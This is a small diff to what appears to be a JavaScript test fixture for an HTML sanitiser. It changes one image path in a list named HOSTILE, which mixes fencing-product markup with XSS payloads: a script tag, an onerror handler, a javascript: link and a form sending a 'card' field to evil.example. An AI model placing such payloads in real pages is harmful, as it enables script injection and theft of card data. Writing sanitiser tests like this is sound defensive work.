@@ -6,7 +6,7 @@ const HOSTILE = [
   '<h2>Chain Link Fencing</h2>',
   '<p>Galvanised rolls from <strong>2.5 to 4.0 mm</strong> wire.</p>',
   '<script>window.hacked = true</script>',
-  '<img src="/images/logo.svg" onerror="window.hacked = true" alt="Logo">',
+  '<img src="/site/logo.svg" onerror="window.hacked = true" alt="Logo">',
   '<a href="javascript:alert(1)">Click me</a>',
   '<a href="https://example.com/datasheet.pdf" target="_blank">Datasheet</a>',
   '<form action="https://evil.example"><input name="card"></form>',
